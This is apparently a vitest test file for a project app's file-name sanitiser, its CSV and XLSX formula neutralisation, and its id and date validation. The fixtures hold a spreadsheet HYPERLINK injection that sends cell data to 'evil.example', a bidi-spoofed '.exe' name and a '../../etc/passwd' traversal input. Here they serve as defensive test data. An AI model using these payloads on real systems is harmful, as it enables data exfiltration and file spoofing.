import { describe, expect, it } from 'vitest';
import fc from 'fast-check';
import { parse } from 'csv-parse/sync';
import { servedFileName } from '../../src/lib/files/names.ts';
import { neutraliseCell } from '../../src/lib/files/spreadsheet-cell.ts';
import { projectsCsv } from '../../src/features/open-data/projects-csv.ts';
import { readXlsx, writeXlsx } from '../../src/features/register/read-table.ts';
import { COLUMNS } from '../../src/features/register/headers.ts';
import { isCalendarDate, parseId } from '../../src/lib/input.ts';
import type { ProjectListItem } from '../../src/features/projects/queries.ts';

const BIDI = /[\u061c\u200e\u200f\u202a-\u202e\u2066-\u2069]/;
const FORMULAS = ['=HYPERLINK("http://evil.example?"&A1,"点击")', '+1+1', '-2+3', '@SUM(A1:A9)', '\t=1', '\r=1'];

describe('served file names', () => {
  it('end in the extension of the sniffed type, without bidi controls', () => {
    expect(servedFileName('invoice\u202Efdp.exe', 'application/pdf')).toBe('invoicefdp.exe.pdf');
    expect(servedFileName('设计图.PDF', 'application/pdf')).toBe('设计图.PDF');
    expect(servedFileName('photo.jpeg', 'image/jpeg')).toBe('photo.jpeg');
    expect(servedFileName('photo.png', 'image/jpeg')).toBe('photo.png.jpg');
    expect(servedFileName('scan', 'image/webp')).toBe('scan.webp');
    expect(servedFileName('', 'image/png')).toBe('file.png');
    expect(servedFileName('../../etc/passwd', 'application/pdf')).toBe('passwd.pdf');
  });
  it('whatever the uploaded name', () => {
    const ext = { 'application/pdf': ['pdf'], 'image/png': ['png'], 'image/jpeg': ['jpg', 'jpeg'], 'image/webp': ['webp'] } as const;
    fc.assert(
      fc.property(
        fc.string({ unit: fc.constantFrom('a', '.', '/', '\u202E', '\u2066', '\u200F', 'x', 'é', '文', ' ', 'p', 'd', 'f'), maxLength: 200 }),
        fc.constantFrom(...(Object.keys(ext) as (keyof typeof ext)[])),
        (name, mime) => {
          const served = servedFileName(name, mime);
          return !BIDI.test(served) && served.length <= 120 && !served.includes('/') && ext[mime].some((e) => served.toLowerCase().endsWith(`.${e}`));
        },
      ),
    );
  });
});

describe('exports neutralise formulas', () => {
  it('prefixes text that a spreadsheet would run, and only that', () => {
    for (const f of FORMULAS) expect(neutraliseCell(f)).toBe(`'${f}`);
    for (const t of ['建设小区', '1-1-101', '85.20', '']) expect(neutraliseCell(t)).toBe(t);
  });
  it('in the project list CSV', () => {
    const row = (title: string, i: number): ProjectListItem => ({
      id: i,
      code: `ZH-2020-${i}`,
      title,
      titleEn: null,
      stage: 1,
      batchYear: 2020,
      households: 10,
      subdistrictCode: 'hebin',
      subdistrictName: '@河滨街道',
      subdistrictNameEn: 'Hebin',
      lat: 33.7,
      lng: 113.3,
      totalFen: 100,
      donationsReceivedFen: 0,
      residentsReceivedFen: 0,
    });
    const csv = projectsCsv(FORMULAS.map(row), 'http://x.test', () => '立项');
    const records = parse(csv.replace(/^\uFEFF/, ''), { relax_column_count: true }) as string[][];
    const cells = records.slice(1).flat();
    expect(cells.filter((c) => /^[=+\-@\t\r]/.test(c))).toEqual([]);
    expect(records.slice(1).map((r) => r[1])).toEqual(FORMULAS.map((f) => `'${f}`));
  });
  it('in the register XLSX export', async () => {
    const rows = FORMULAS.map((f, i) => ({
      line: i + 2,
      estate: '=建设小区',
      building: f,
      entrance: '1',
      floor: -1,
      room: `${101 + i}`,
      areaCm2: 8520,
      areaSource: 'registered' as const,
      owners: [{ name: f, idType: 'resident_id' as const, idNumber: `${'*'.repeat(14)}1234` }],
      phone: null,
      developerHeld: false,
    }));
    const table = await readXlsx(await writeXlsx(rows));
    expect(table[0]).toEqual(COLUMNS.map((c) => c.zh));
    const cells = table.slice(1).flat();
    expect(cells.filter((c) => /^[=+\-@\t\r]/.test(c) && c !== '-1')).toEqual([]); // the floor is a number, not text
    expect(cells).toContain(`'${FORMULAS[0]}`);
    expect(cells).toContain("'=建设小区");
  });
});

describe('ids and dates from requests', () => {
  it('an id is 1 … 2³¹−1 in plain digits', () => {
    expect(parseId('1')).toBe(1);
    expect(parseId('2147483647')).toBe(2147483647);
    for (const bad of ['2147483648', '99999999999999999999', '0', '-1', '1.5', '1e3', '0x10', ' 1', '01', '', undefined, null]) expect(parseId(bad)).toBeNull();
  });
  it('a date is one that exists, in years 0001–9999', () => {
    for (const ok of ['2026-02-28', '2024-02-29', '0001-01-01', '9999-12-31']) expect(isCalendarDate(ok)).toBe(true);
    for (const bad of ['2026-02-30', '2025-02-29', '0000-01-01', '2026-13-01', '2026-00-10', '2026-1-1', '99999-01-01', '2026-01-01T00:00'])
      expect(isCalendarDate(bad)).toBe(false);
  });
});
